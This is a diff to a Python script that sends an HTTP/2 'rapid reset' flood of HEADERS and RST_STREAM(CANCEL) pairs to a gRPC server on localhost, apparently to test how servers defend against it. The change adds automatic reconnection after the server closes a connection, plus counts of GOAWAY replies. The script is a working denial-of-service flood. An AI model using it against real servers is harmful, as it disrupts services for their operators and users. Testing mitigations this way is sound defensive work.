@@ -3,17 +3,16 @@
 
 Usage: h2_rapid_reset.py PORT PATH PAIRS [SECONDS]
 
-On one cleartext HTTP/2 connection to 127.0.0.1:PORT, sends PAIRS pairs of
-HEADERS (a gRPC call to PATH) and RST_STREAM(CANCEL) for the same stream, as
-fast as the socket takes them, for at most SECONDS (default 30). The frames
-are written by hand (a fixed HPACK block of static-table references and
-literals, never indexed) so that the client is faster than the servers it
-attacks.
+Sends PAIRS pairs of HEADERS (a gRPC call to PATH) and RST_STREAM(CANCEL)
+for the same stream to 127.0.0.1:PORT over cleartext HTTP/2, as fast as the
+socket takes them, for at most SECONDS (default 30). When the server closes
+a connection the flood goes on on a new one. The frames are written by hand
+(a fixed HPACK block of static-table references and literals, never
+indexed), so the client is faster than the servers it attacks.
 
-Prints one JSON line:
-  {"sent": pairs written, "goaway": true if the server sent GOAWAY,
-   "goaway_error": its error code or null, "closed": true if the server
-   closed the connection, "seconds": time taken}
+Prints one JSON line: pairs sent, connections used, how many of them ended
+with GOAWAY(ENHANCE_YOUR_CALM), how many the server closed, the most pairs
+sent on one connection, and the time taken.
 """
 import json
 import socket
@@ -27,6 +26,7 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 HEADERS, RST_STREAM, SETTINGS, GOAWAY = 0x1, 0x3, 0x4, 0x7
 END_HEADERS, ACK = 0x4, 0x1
 CANCEL = 0x8
+ENHANCE_YOUR_CALM = 0xb
 
 
 def frame(kind, flags, stream, payload):
@@ -79,8 +79,11 @@ class Reader(threading.Thread):
                     payload = buffer[9:9 + length]
                     buffer = buffer[9 + length:]
                     if kind == SETTINGS and not flags & ACK:
-                        with self.lock:
-                            self.sock.sendall(frame(SETTINGS, ACK, 0, b""))
+                        try:
+                            with self.lock:
+                                self.sock.sendall(frame(SETTINGS, ACK, 0, b""))
+                        except OSError:
+                            pass  # the flood's end; read on for GOAWAY
                     elif kind == GOAWAY:
                         self.goaway = int.from_bytes(payload[4:8], "big")
         except OSError:
@@ -88,25 +91,20 @@ class Reader(threading.Thread):
         self.closed = True
 
 
-def main():
-    port, path, pairs = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
-    limit = float(sys.argv[4]) if len(sys.argv) > 4 else 30.0
-    sock = socket.create_connection(("127.0.0.1", port), timeout=limit)
+def flood(port, block, pairs, deadline):
+    """One connection: pairs until `pairs` are sent, the server closes it
+    or the deadline passes. Returns (pairs sent, GOAWAY code, closed)."""
+    sock = socket.create_connection(("127.0.0.1", port), timeout=10)
     sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
     lock = threading.Lock()
     reader = Reader(sock, lock)
     with lock:
         sock.sendall(PREFACE + frame(SETTINGS, 0, 0, b""))
     reader.start()
-
-    block = header_block(path)
     rst = struct.pack(">I", CANCEL)
-    start = time.monotonic()
-    sent = 0
-    stream = 1
-    batch = 200
+    sent, stream, batch = 0, 1, 200
     try:
-        while sent < pairs and time.monotonic() - start < limit:
+        while sent < pairs and time.monotonic() < deadline:
             if reader.closed:
                 break
             count = min(batch, pairs - sent)
@@ -121,15 +119,36 @@ def main():
             stream += 2 * count
     except OSError:
         pass
-    # Give the server a moment to answer the flood with GOAWAY or a close.
+    # A moment for the server to answer the flood with GOAWAY and a close.
     reader.join(timeout=2.0)
     closed = reader.closed
     sock.close()
+    return sent, reader.goaway, closed
+
+
+def main():
+    port, path, pairs = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
+    limit = float(sys.argv[4]) if len(sys.argv) > 4 else 30.0
+    block = header_block(path)
+    start = time.monotonic()
+    deadline = start + limit
+    sent, connections, goaways, closed, most = 0, 0, 0, 0, 0
+    # A closed connection is replaced by a new one, as an attacker would.
+    while sent < pairs and time.monotonic() < deadline:
+        n, goaway, was_closed = flood(port, block, pairs - sent, deadline)
+        connections += 1
+        sent += n
+        most = max(most, n)
+        goaways += goaway == ENHANCE_YOUR_CALM
+        closed += was_closed
+        if not was_closed:
+            break  # the server let the connection go on
     print(json.dumps({
         "sent": sent,
-        "goaway": reader.goaway is not None,
-        "goaway_error": reader.goaway,
+        "connections": connections,
+        "goaway_enhance_your_calm": goaways,
         "closed": closed,
+        "most_pairs_on_one_connection": most,
         "seconds": round(time.monotonic() - start, 3),
     }))
 
